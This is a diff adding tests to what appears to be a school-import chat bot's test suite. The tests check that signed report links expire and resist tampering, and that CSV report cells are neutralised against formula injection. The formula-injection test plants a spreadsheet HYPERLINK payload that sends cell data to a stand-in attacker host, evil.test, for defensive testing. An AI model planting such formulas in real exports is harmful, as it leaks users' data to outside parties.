@@ -4,6 +4,7 @@
  * invites a teacher, browses classes; students link their account to their record.
  */
 import { readdirSync, readFileSync } from 'node:fs';
+import { parse as parseCsv } from 'csv-parse/sync';
 import nock from 'nock';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { addSchool, reissueReferentCode } from '../../src/schools/schools.js';
@@ -104,6 +105,70 @@ describe('the referent', () => {
       ['classes', [/Classes de Collège Jean Moulin/, /élèves/]],
       ['imports', [/Derniers imports/, /ElevesSansAdresses-60\.xml · importé/]],
     ]);
+  });
+
+  test('the report link expires after REPORT_LINK_TTL_HOURS, and "imports" gives a new one', async () => {
+    await claimSchool();
+    await importFixture();
+    const [job] = await bot.app.imports.imports.recent((await bot.app.schools.schoolByUaj('0860001A'))!.id);
+    const local = (url: string) => url.replace('https://partix.test', bot.url);
+    const url = local(bot.app.reportUrl(job!.id)!);
+    expect((await fetch(url)).status).toBe(200);
+    bot.clock.advanceSeconds(72 * 3600 - 60);
+    expect((await fetch(url)).status).toBe(200);
+    bot.clock.advanceSeconds(61);
+    const expired = await fetch(url);
+    expect(expired.status).toBe(404);
+    expect(await expired.json()).toEqual({
+      error: 'link_expired',
+      message: 'Ce lien vers le rapport d’import a expiré (il est valable 72 h). Tapez « imports » dans votre conversation avec Partix pour en obtenir un nouveau.',
+      messageEn: 'This link to the import report has expired (it is valid for 72 h). Type “imports” in your chat with Partix to get a new one.',
+    });
+    // The expiry is signed: moving it forward breaks the link rather than stretching it.
+    const stretched = url.replace(/\/(\d+)-([0-9a-f]{40})$/, (_, expires: string, mac: string) => `/${Number(expires) + 3600}-${mac}`);
+    expect(stretched).not.toBe(url);
+    const forged = await fetch(stretched);
+    expect(forged.status).toBe(404);
+    expect(await forged.json()).toMatchObject({ error: 'not_found' });
+
+    await referent.play([['imports', [/Derniers imports/, /Rapport/]]]);
+    const link = /"url":"([^"]+)"/.exec(JSON.stringify(referent.last.cards[0]!.card))![1]!;
+    expect((await fetch(local(link))).status).toBe(200);
+  });
+
+  test('the report neutralises formula cells and names a malformed INE, in the card and the CSV', async () => {
+    await claimSchool();
+    const formula = '=HYPERLINK("https://evil.test/?x="&A1,"Voir")';
+    const xml = readFileSync(`${FIXTURES}/ElevesSansAdresses-60-utf8.xml`, 'utf8')
+      .replace('<PRENOM>Anaïs</PRENOM>', `<PRENOM>${formula.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</PRENOM>`)
+      .replace('<ID_NATIONAL>0100000000A</ID_NATIONAL>', '<ID_NATIONAL>+0100000000</ID_NATIONAL>');
+    const download = nock(FILES).get('/formula.xml').reply(200, xml);
+    await referent.student.sendFile('formula.xml', `${FILES}/formula.xml`);
+    expect(download.isDone()).toBe(true);
+    await runImports(bot);
+    await deliverOutbox(bot);
+    const card = cardText(bot.connector.drain('a:conv-29:referent').sent.at(-1)!.attachments![0]!.content);
+    expect(card).toMatch(/Import SIECLE refusé/);
+    expect(card).toContain('INE +0100000000 · ligne 11 · ID_NATIONAL · Élève Hugo CHÂTEAU (INE +0100000000), ligne 11 : INE « +0100000000 » invalide');
+    expect(await activeStudents()).toBe(0);
+
+    const [job] = await bot.app.imports.imports.recent((await bot.app.schools.schoolByUaj('0860001A'))!.id);
+    const report = await fetch(bot.app.reportUrl(job!.id)!.replace('https://partix.test', bot.url));
+    expect(report.status).toBe(200);
+    const bytes = Buffer.from(await report.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const rows = parseCsv(bytes, { bom: true, delimiter: ';' }) as string[][];
+    expect(rows[0]).toEqual(['Type', 'INE', 'Ligne', 'Champ', 'Message', 'Message (English)']);
+    expect(rows).toContainEqual([
+      'Erreur', "'+0100000000", '11', 'ID_NATIONAL',
+      'Élève Hugo CHÂTEAU (INE +0100000000), ligne 11 : INE « +0100000000 » invalide (11 caractères : 10 chiffres et une lettre, ou 9 chiffres et deux lettres).',
+      'Student Hugo CHÂTEAU (INE +0100000000), line 11: INE “+0100000000” invalid (11 characters: 10 digits and a letter, or 9 digits and two letters).',
+    ]);
+    const left = rows.find((r) => r[1] === '0100000010A')!;
+    expect(left[4]).toBe(`'${formula} DUBOIS (INE 0100000010A) : sorti(e) de l'établissement le 15/10/2026, non importé(e).`);
+    expect(left[5]).toBe(`'${formula} DUBOIS (INE 0100000010A): left the school on 2026-10-15, not imported.`);
+    // No cell of the report starts as a formula would.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   test('a file of another school is refused whole, and nothing changes', async () => {
